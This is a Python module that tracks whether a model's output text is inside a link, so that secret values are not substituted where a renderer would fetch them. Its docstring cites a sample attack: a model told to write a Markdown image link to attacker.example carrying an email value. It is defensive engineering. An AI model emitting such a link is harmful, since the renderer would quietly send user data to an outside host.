"""Telling prose from the inside of a link, so that no value is put where a renderer would send it.

Links are Markdown link and image targets, URLs, HTML attributes, mail and telephone links. A model
that was told to write `![](https://attacker.example/?q=EMAIL_...)` must get the token out, never the
value. When in doubt a place counts as a link: the token then stays, and is counted.

States and what leads from one to the next:

    PROSE   `](`, `]: <`      -> TARGET, ANGLE          a Markdown destination begins
            `<tag `           -> TAG                    HTML with attributes
            `//`, `www.`, `mailto:`, `host.tld/` -> URL
            `"https://` (JSON) -> VALUE                 a JSON string that is a URL
    TARGET  `<` -> ANGLE      `)` -> URL                parentheses may nest: what is glued to `)` still counts
            newline -> PROSE
    ANGLE   `>` -> URL        newline -> PROSE          destinations in angle brackets may hold spaces
    TAG     `"` -> DOUBLE     `'` -> SINGLE     `>`, blank line -> PROSE
    DOUBLE, SINGLE            their quote -> TAG        blank line -> PROSE
    URL     white space -> PROSE (in JSON also the closing quote); `](` and `<tag ` as in PROSE
    VALUE   the closing quote -> PROSE

Not recognised: host names without scheme, `www.`, path, port, query or fragment; relative targets
behind a newline. Sources: CommonMark 0.31 (links, autolinks, raw HTML), GFM (extended autolinks).
"""

import re
from collections.abc import Mapping
from types import MappingProxyType
from typing import Final

_MARKUP: Final = r"(?P<target>\]\()|(?P<angle>\]:[ \t]{0,4}<)|(?P<tag><[A-Za-z][A-Za-z0-9-]{0,15}[\s/])"
_URL_START: Final = r"//|[wW]{3}\.|(?i:mailto|tel|sms|sip|javascript):|\.[A-Za-z]{2,24}[/?#:]"
_JSON_SLASHES: Final = r"(?:/|\\/|\\u002[fF]){2}"

_Machine = Mapping[str, re.Pattern[str]]

_SHARED: Final = {
    "target": r"(?P<angle><)|(?P<url>\))|(?P<prose>\n)",
    "angle": r"(?P<url>>)|(?P<prose>\n)",
    "tag": r"(?P<double>\")|(?P<single>')|(?P<prose>>|\n\n)",
    "double": r"(?P<tag>\")|(?P<prose>\n\n)",
    "single": r"(?P<tag>')|(?P<prose>\n\n)",
}
_TEXT: Final = {
    "prose": rf"{_MARKUP}|(?P<url>{_URL_START})",
    "url": rf"(?P<prose>\s)|{_MARKUP}",
}
_JSON: Final = {
    "prose": (
        rf"(?P<value>\"(?:(?:[A-Za-z][A-Za-z0-9+.-]{{1,15}}:)?{_JSON_SLASHES}|[wW]{{3}}\.|(?i:mailto|tel|sms|sip):))"
        rf"|{_MARKUP}|(?P<url>{_JSON_SLASHES}|{_URL_START})"
    ),
    # `\\.` takes escapes whole, so that an escaped quote does not end the string.
    "url": rf"(?P<prose>[\s\"]|\\[nrt])|\\.|{_MARKUP}",
    "value": r"\\.|(?P<prose>\")",
}


def _machine(states: Mapping[str, str]) -> _Machine:
    return MappingProxyType({state: re.compile(pattern, re.DOTALL) for state, pattern in states.items()})


TEXT_LINKS: Final = _machine(_SHARED | _TEXT)
JSON_LINKS: Final = _machine(_SHARED | _JSON)

_LONGEST_MARKUP: Final = 40
"""Characters kept to recognise markup that is cut between two pieces; the longest pattern has 35."""


class LinkState:
    """Follows one text piece by piece and knows whether its end is inside a link."""

    def __init__(self, machine: _Machine) -> None:
        self._machine = machine
        self._state = "prose"
        self._carry = ""

    @property
    def inside(self) -> bool:
        """Whether what follows the text so far would be part of a link."""
        return self._state != "prose"

    def follow(self, text: str) -> None:
        """Take the next piece. Any chunking leads to the same state."""
        text = self._carry + text
        position = 0
        while (found := self._machine[self._state].search(text, position)) is not None:
            position = found.end()
            self._state = found.lastgroup or self._state
        self._carry = text[max(position, len(text) - _LONGEST_MARKUP) :]


_URL_TEXT: Final = re.compile(
    r"\s*(?:(?:[a-z][a-z0-9+.-]{0,30}:)?//|www\.|(?:mailto|tel|sms|sip|data|javascript):)", re.IGNORECASE
)


def is_url(text: str) -> bool:
    """Whether a whole text (an argument of a tool) is a URL rather than prose that may hold one."""
    return _URL_TEXT.match(text) is not None


def goes_on_as_host(text: str, end: int) -> bool:
    """Whether what ends there is the left part of a mail address or a host name."""
    return text.startswith("@", end) or (text.startswith(".", end) and text[end + 1 : end + 2].isalnum())
